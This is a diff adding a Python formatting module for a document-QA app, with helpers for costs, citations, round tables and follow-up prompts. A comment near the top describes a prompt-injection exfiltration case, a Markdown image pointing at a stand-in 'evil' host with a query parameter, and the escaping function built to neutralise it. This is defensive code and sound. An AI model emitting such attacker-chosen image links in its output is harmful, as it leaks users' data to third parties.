@@ -1,0 +1,106 @@
+"""Pure formatting for the app: numbers, pages, tables, and Markdown that is safe for model output."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+from typing import Any
+
+from minions.cost import CostReport, MeterEntry, add_costs
+from minions.protocols.result import Citation, RoundRecord
+
+# Model output and document text are untrusted. Streamlit renders Markdown images and links, so a
+# prompt-injected `![](https://evil/?q=...)` would make the browser fetch a URL the model chose.
+# Escaping these characters keeps bold/lists readable but makes links, images and LaTeX inert.
+_UNSAFE_MD = re.compile(r"([\\\[\]<>$`])")
+
+
+def safe_md(text: str) -> str:
+    return _UNSAFE_MD.sub(r"\\\1", text)
+
+
+def clip(text: str, n: int) -> str:
+    text = " ".join(text.split())
+    return text if len(text) <= n else text[: n - 1] + "…"
+
+
+def usd(x: float | None) -> str:
+    if x is None:
+        return "unknown (no price)"
+    return f"${x:.4f}" if x >= 0.01 else f"${x:.6f}"
+
+
+def tokens(n: int) -> str:
+    return f"{n:,}"
+
+
+def pages_label(start: int | None, end: int | None) -> str:
+    if start is None:
+        return ""
+    return f"p. {start}" if end in (None, start) else f"pp. {start}–{end}"
+
+
+def saving(rep: CostReport) -> str:
+    """Dollars saved against remote-only, and how many times cheaper."""
+    spent, est = rep.role("remote").cost_usd, rep.remote_only_estimate_usd
+    if spent is None or est is None:
+        return "unknown"
+    if spent > est:  # tiny documents: planning costs more than sending everything
+        return f"none: {usd(spent - est)} more than remote-only"
+    ratio = rep.savings_ratio
+    return usd(est - spent) + (f" ({ratio:.1f}× cheaper)" if ratio else " (no remote spend)")
+
+
+def citation_line(c: Citation, titles: dict[str, str] | None = None) -> str:
+    """One Markdown line for a citation: document, pages, quoted text (escaped)."""
+    name = (titles or {}).get(c.doc_id, c.doc_id)
+    where = ", ".join(x for x in (safe_md(name), pages_label(c.page_start, c.page_end)) if x)
+    return f"**{where}** — “{safe_md(clip(c.text, 300))}”"
+
+
+DECISIONS = {"final_answer": "answered", "another_round": "asked for another round",
+             "forced_answer": "round limit reached, answered with what it had"}
+
+
+def rounds_table(calls: Sequence[MeterEntry]) -> list[dict[str, Any]]:
+    """Per-round cost from the meter: one row per round (calls without a round come first)."""
+    by_round: dict[int | None, list[MeterEntry]] = {}
+    for e in calls:
+        by_round.setdefault(e.round, []).append(e)
+    rows = []
+    for rnd in sorted(by_round, key=lambda r: -1 if r is None else r):
+        entries = by_round[rnd]
+        remote = [e for e in entries if e.role == "remote"]
+        local = [e for e in entries if e.role == "local"]
+        rows.append({
+            "round": "—" if rnd is None else str(rnd),
+            "remote calls": len(remote),
+            "remote tokens": sum(e.usage.total_tokens for e in remote),
+            "remote $": add_costs(e.cost_usd for e in remote),
+            "local calls": len(local),
+            "local tokens": sum(e.usage.total_tokens for e in local),
+        })
+    return rows
+
+
+def jobs_table(rnd: RoundRecord) -> list[dict[str, Any]]:
+    return [{"job": j.job_id, "task": j.task_id, "chunk": j.chunk_id,
+             "pages": pages_label(*j.pages), "kept": j.kept, "answer": j.answer or "",
+             "citation": j.citation or "", "note": j.note} for j in rnd.jobs]
+
+
+def plan_tasks(plan: dict[str, Any] | None) -> list[str]:
+    """The task instructions of a MinionS plan, whatever shape the task entries have."""
+    out = []
+    for t in (plan or {}).get("tasks", []) or []:
+        out.append(str(t.get("instruction", t)) if isinstance(t, dict) else str(t))
+    return out
+
+
+def with_history(question: str, turns: Sequence[tuple[str, str | None]], keep: int = 3) -> str:
+    """A follow-up for protocols that do not remember turns: earlier Q&A as context, then the question."""
+    earlier = [(q, a) for q, a in turns if a][-keep:]
+    if not earlier:
+        return question
+    lines = "\n".join(f"Q: {q}\nA: {clip(a, 400)}" for q, a in earlier)
+    return f"Earlier questions and answers about these documents:\n{lines}\n\nFollow-up question: {question}"
